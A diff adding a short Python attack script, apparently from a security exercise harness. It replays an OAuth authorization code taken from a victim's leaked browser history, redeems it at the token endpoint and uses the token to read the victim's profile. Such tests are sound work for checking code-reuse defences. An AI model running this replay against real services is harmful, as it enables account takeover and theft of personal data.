@@ -1,0 +1,24 @@
+"""The code from the history: used already, and sent once more."""
+
+import requests
+
+
+def attack(exercise):
+    exercise.victim.signs_in()
+    old = exercise.leaks()["callback_url"]
+
+    answer = requests.post(
+        f"{exercise.issuer}/connect/token",
+        data={
+            "grant_type": "authorization_code",
+            "code": old["code"],
+            "client_id": exercise.client_id,
+            "redirect_uri": f"{exercise.app}/callback",
+        },
+    )
+    if answer.ok:
+        token = answer.json()["access_token"]
+        bearer = {"Authorization": f"Bearer {token}"}
+        requests.get(f"{exercise.issuer}/v1/profile", headers=bearer)
+
+    exercise.victim.uses_app()  # is she still signed in?
